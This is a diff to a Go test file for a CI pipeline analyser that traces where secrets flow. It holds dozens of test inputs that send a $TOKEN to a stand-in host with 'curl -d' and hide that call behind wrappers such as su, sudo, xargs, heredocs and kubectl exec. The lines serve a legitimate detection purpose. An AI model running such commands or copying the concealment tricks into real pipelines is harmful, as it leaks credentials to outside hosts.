@@ -2,6 +2,7 @@ package pipeline_test
 
 import (
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -196,6 +197,105 @@ func TestFlowsOfScripts(t *testing.T) {
 				t.Errorf("got the gap %q", gaps[0].Get("what").Str())
 			}
 		})
+	}
+}
+
+// A command may stand behind others that run it.
+func TestFlowsBehindOtherCommands(t *testing.T) {
+	const send = `curl -d "$TOKEN" https://h.example`
+	for _, lines := range []string{
+		"su -c '" + send + "' deploy", `su deploy --command="curl -d '$TOKEN' https://h.example"`, `su - deploy -c "curl -d '$TOKEN' https://h.example"`, "runuser -u deploy -- " + send,
+		"sudo -u deploy sh -c '" + send + "'", "doas -u x " + send, "gosu app " + send, "chroot /mnt " + send, "dbus-run-session -- " + send,
+		"timeout -k 5s --signal=KILL 10m " + send, "nohup " + send, "flock /tmp/l " + send, "flock -w 5 /tmp/l -c '" + send + "'", "watch -n 1 '" + send + "'",
+		"script -qec '" + send + "' out.log", `script -c "curl -d '$TOKEN' https://h.example" /dev/null`,
+		"declare -n r=TOKEN\ncurl -d \"$r\" https://h.example", "f() { local -n r=$1; curl -d \"$r\" https://h.example; }\nf TOKEN", "declare -n r=A\nr=$TOKEN\ncurl -d \"$A\" https://h.example",
+		`env -S 'curl -d '"$TOKEN"' https://h.example'`, `env --split-string="curl -d $TOKEN https://h.example"`,
+		`printf '%s' "$TOKEN" | xargs sh -c 'curl -d "$0" https://h.example'`, `printf '%s' "$TOKEN" | xargs -n1 bash -c 'curl -d "$1" https://h.example' _`,
+		`parallel -j 2 curl -d {} https://h.example ::: "$TOKEN"`, `echo "$TOKEN" | parallel curl https://h.example -d`,
+		"bash -s -- \"$TOKEN\" <<'EOF'\ncurl -d \"$1\" https://h.example\nEOF", `bash <<<"curl -d '$TOKEN' https://h.example"`,
+		`kubectl exec pod -- sh -c "curl -d '$TOKEN' https://h.example"`, "ssh u@h.example <<EOF\nexport X=$TOKEN\nEOF",
+	} {
+		if got, _ := pipelinetest.Followed(t, script(lines), nil); !slices.ContainsFunc(got, func(f string) bool {
+			return strings.HasPrefix(f, "network by") && strings.Contains(f, "host=h.example")
+		}) {
+			t.Errorf("%s: %q", lines, got)
+		}
+	}
+	for _, lines := range []string{
+		"su - deploy -c '" + send + "'", "kubectl exec pod -- sh -c '" + send + "'", "su -c 'curl https://h.example' deploy", "declare -n r=OTHER\ncurl -d \"$r\" https://h.example",
+		"script -q out.log", "flock -n 9", "env -S 'curl https://h.example'", "ssh u@h.example <<'EOF'\necho $TOKEN\nEOF", "watch ls",
+	} {
+		if got, _ := pipelinetest.Followed(t, script(lines), nil); len(got) > 0 {
+			t.Errorf("%s: %q", lines, got)
+		}
+	}
+}
+
+// What programs make of a secret is followed as a file.
+func TestFlowsThroughFiles(t *testing.T) {
+	upload := "      - uses: actions/upload-artifact@v4\n        with: {name: a, path: out/}\n"
+	for _, lines := range []string{
+		`sed "s/PW/$TOKEN/" app.tmpl > out/a`, `sed -i.bak -e "s|PW|$TOKEN|g" -e 's/a/b/' out/a`, `yq -i ".db.password = \"$TOKEN\"" out/a`, `yq e -i '.db.password = strenv(TOKEN)' out/a`,
+		`yq -i '.p = env(TOKEN)' out/a`, `jq --arg p "$TOKEN" '.p = $p' a | sponge out/a`, `jq '.p = env.TOKEN' a > b && mv b out/a`, `perl -pi -e 's/PW/$ENV{TOKEN}/' out/a`,
+		`install -D -m 600 /dev/stdin out/k <<< "$TOKEN"`, `echo "$TOKEN" > k; install -m 600 k out/key`, `echo "$TOKEN" | sudo tee -a out/k > /dev/null`, `echo "$TOKEN" > k; cp -t out k`, `echo "$TOKEN" > d/k; cp -r d out`,
+		`echo "$TOKEN" > k; ln k out/k`, `echo "$TOKEN" > k; rsync -a k out/`, `helm template app ./chart --set password="$TOKEN" > out/a`, `helm template app ./chart --set-string p=$TOKEN --output-dir out`,
+		`echo "p: $TOKEN" > v.yaml; helm template app ./chart -f v.yaml > out/a`, `terraform plan -var "p=$TOKEN" -out=out/plan`, `TF_VAR_p=$TOKEN terraform plan -out out/plan`, `tofu plan -var p=$TOKEN -out=p; tofu show -json p > out/p`,
+		`docker build --build-arg T=$TOKEN -t app . && docker save app -o out/app.tar`, `docker build --build-arg T=$TOKEN -t app . ; docker save app | gzip > out/app.tgz`,
+		`kubectl create secret generic db --from-literal=p=$TOKEN --dry-run=client -o yaml > out/a`, `kubectl config set-credentials u --token=$TOKEN --kubeconfig=out/config`, `crudini --set out/a db p "$TOKEN"`, `m4 -DPW="$TOKEN" a.m4 > out/a`,
+		`echo "$TOKEN" | gpg --dearmor -o out/k`,
+	} {
+		if got, _ := pipelinetest.Followed(t, script(lines)+upload, nil); !slices.ContainsFunc(got, func(f string) bool { return strings.HasPrefix(f, "artifact") }) {
+			t.Errorf("%s: %q", lines, got)
+		}
+	}
+	for _, lines := range []string{
+		`sed "s/$TOKEN/***/g" build.log > out/log`, `sed -i "s|$TOKEN|***|" out/log`, `sed 's/PW/x/' a > out/a`, "terraform plan -out=out/plan", "docker build -t app . && docker save app -o out/app.tar",
+		`docker build --build-arg T=$TOKEN -t app . ; docker save other -o out/app.tar`, `kubectl create secret generic db --from-literal=p=$TOKEN --dry-run=client -o yaml | kubeseal > out/a`, `echo $TOKEN > k; sops -e k > out/k`,
+		`echo "$TOKEN" > d/k; cp -r e out`, `helm template app ./chart > out/a`, `echo "$TOKEN" | sha256sum > out/sum`, `echo "$TOKEN" > k; rsync -a k host:out/`, `yq -i '.p = "x"' out/a`,
+	} {
+		if got, _ := pipelinetest.Followed(t, script(lines)+upload, nil); slices.ContainsFunc(got, func(f string) bool { return strings.HasPrefix(f, "artifact") }) {
+			t.Errorf("%s: %q", lines, got)
+		}
+	}
+}
+
+// The text of a message, a comment or a release is told as what it is.
+func TestFlowsIntoMessages(t *testing.T) {
+	tests := []struct{ step, want string }{
+		{"uses: slackapi/slack-github-action@v2\nwith: {webhook: '${{ secrets.HOOK }}', payload: 'pw ${{ secrets.KEY }}'}", "network by slackapi/slack-github-action KEY host=slack.com"},
+		{"uses: rtCamp/action-slack-notify@v2\nenv: {SLACK_WEBHOOK: '${{ secrets.HOOK }}', SLACK_MESSAGE: 'pw ${{ secrets.KEY }}'}", "network by rtCamp/action-slack-notify KEY host=slack.com"},
+		{"uses: dawidd6/action-send-mail@v3\nwith: {server_address: smtp.example, password: '${{ secrets.MAIL }}', to: '${{ secrets.TO }}', body: 'pw ${{ secrets.KEY }}'}", "network by dawidd6/action-send-mail KEY host=smtp.example"},
+		{"uses: dawidd6/action-send-mail@v3\nwith: {server_address: '${{ vars.S }}', body: 'pw ${{ secrets.KEY }}'}", "network by dawidd6/action-send-mail KEY"},
+		{"uses: peter-evans/create-or-update-comment@v4\nwith: {token: '${{ secrets.BOT }}', body: 'pw ${{ secrets.KEY }}'}", "repository by peter-evans/create-or-update-comment KEY"},
+		{"uses: softprops/action-gh-release@v2\nwith: {token: '${{ secrets.BOT }}', files: a}", ""},
+		{"uses: slackapi/slack-github-action@v2\nwith: {webhook: '${{ secrets.HOOK }}', payload: done}", ""},
+		{"env: {T: '${{ secrets.KEY }}'}\nrun: echo \"$T\" | mail -s done ops@h.example", "network by mail KEY host=h.example"},
+		{"env: {T: '${{ secrets.KEY }}'}\nrun: echo done | mail -s done ops@h.example", ""},
+	}
+	for _, test := range tests {
+		got, _ := pipelinetest.Followed(t, "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - "+strings.TrimPrefix(indent(test.step, "        "), "        "), nil)
+		told := slices.DeleteFunc(got, func(f string) bool { return !strings.HasPrefix(f, "network") && !strings.HasPrefix(f, "repository") })
+		if test.want == "" && len(told) > 0 || test.want != "" && (len(told) != 1 || !strings.HasPrefix(told[0], test.want+" ")) {
+			t.Errorf("%s\ngot %q, want %q", test.step, told, test.want)
+		}
+	}
+}
+
+func TestFlowsOfPowerShellScriptsOfTheRepository(t *testing.T) {
+	files := map[string]string{"d.ps1": "param($Key)\nWrite-Host $env:TOKEN.Substring(0,4)\nWrite-Host $Key.Substring(0,2)\n"}
+	for _, test := range []struct{ shell, run, want string }{
+		{"pwsh", "./d.ps1", "d.ps1 1"}, {"pwsh", "./d.ps1 -Key $env:TOKEN", "d.ps1 2"}, {"bash", "pwsh ./d.ps1", "d.ps1 1"}, {"bash", "pwsh -File d.ps1 -Key $TOKEN", "d.ps1 2"}, {"pwsh", "./e.ps1", "d.ps1 0"},
+	} {
+		got, _ := pipelinetest.Followed(t, "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - shell: "+test.shell+"\n        env: {TOKEN: '${{ secrets.KEY }}'}\n        run: "+test.run+"\n", files)
+		printed := 0
+		for _, flow := range got {
+			if strings.HasPrefix(flow, "log by") && strings.Contains(flow, "substring") {
+				printed++
+			}
+		}
+		if fmt.Sprint("d.ps1 ", printed) != test.want {
+			t.Errorf("%s in %s: %q", test.run, test.shell, got)
+		}
 	}
 }
 
